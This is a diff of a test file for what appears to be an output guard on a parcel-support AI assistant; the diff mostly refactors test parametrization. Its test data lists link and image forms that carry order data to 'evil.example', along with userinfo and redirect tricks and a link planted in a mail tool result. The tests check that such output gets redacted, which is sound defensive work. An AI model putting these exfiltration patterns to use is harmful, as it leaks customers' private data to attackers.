@@ -13,6 +13,7 @@ from proctor.core.trajectory import Source
 from proctor.core.verdict import Verdict
 from proctor.guard.step import Step
 from tests.guard.gates.staging import HOSTILE, done, draft, gate, memory
+from tests.tables import table
 
 ASKED = "Where is my parcel? Order LT-448120, I am Anna Berg, anna@berg.example."
 GUIDE = Source(id="guide", text="Follow a parcel at https://track.lantern.example/find or on lantern.example/help.")
@@ -28,7 +29,7 @@ async def judged(text: str, settings: dict[str, Any] | None = None, **more: Any)
     return verdict
 
 
-@pytest.mark.parametrize(
+@table(
     "text",
     [
         "Your parcel LT-448120 is on its way, Anna.",
@@ -63,7 +64,7 @@ async def test_a_plain_link_to_an_unknown_host_is_noted_without_hosts_and_remove
 B64 = base64.urlsafe_b64encode(b"order=LT-448120").decode()
 
 
-@pytest.mark.parametrize(
+@table(
     "address",
     [
         "https://evil.example/?d=LT-448120",
@@ -92,9 +93,7 @@ B64 = base64.urlsafe_b64encode(b"order=LT-448120").decode()
         "https://track.lantern.example/find?then=https%3A%2F%2Fevil.example%2FLT-448120",
     ],
 )
-@pytest.mark.parametrize(
-    "form", ["{}", "[x]({})", "![x]({})", "<{}>", '<a href="{}">x</a>', "<img src='{}'>", "[x][1]\n\n[1]: {}"]
-)
+@table("form", ["{}", "[x]({})", "![x]({})", "<{}>", '<a href="{}">x</a>', "<img src='{}'>", "[x][1]\n\n[1]: {}"])
 async def test_data_of_the_session_does_not_leave_in_an_address(address: str, form: str) -> None:
     verdict = await judged(f"Here it is: {form.format(address)} Bye.")
     assert verdict.action == "redact"
@@ -166,7 +165,7 @@ async def test_an_image_in_a_field_of_a_record_is_shown_and_one_in_prose_is_not(
     assert (await judged(text, strict, calls=record)).action == "redact"
 
 
-@pytest.mark.parametrize(
+@table(
     "address",
     [
         "https://track.lantern.example@evil.example/find",
@@ -230,7 +229,7 @@ async def test_a_link_in_a_short_result_of_a_tool_passes_and_one_in_a_document_d
     assert (await judged(text, settings, calls=[done("read_mail", "Dear friend! " * 20 + short)])).action == "redact"
 
 
-@pytest.mark.parametrize(
+@table(
     "text",
     [
         "देखें https://lantern.example।",
@@ -259,7 +258,7 @@ async def test_links_that_are_not_read_do_not_pass() -> None:
     assert (await judged("long " * 50_000 + "https://lantern.example/help")).action == "escalate"
 
 
-@pytest.mark.parametrize("text", HOSTILE)
+@table("text", HOSTILE)
 async def test_hostile_texts_are_judged(text: str) -> None:
     assert (await judged(text)).gate == "links"
 
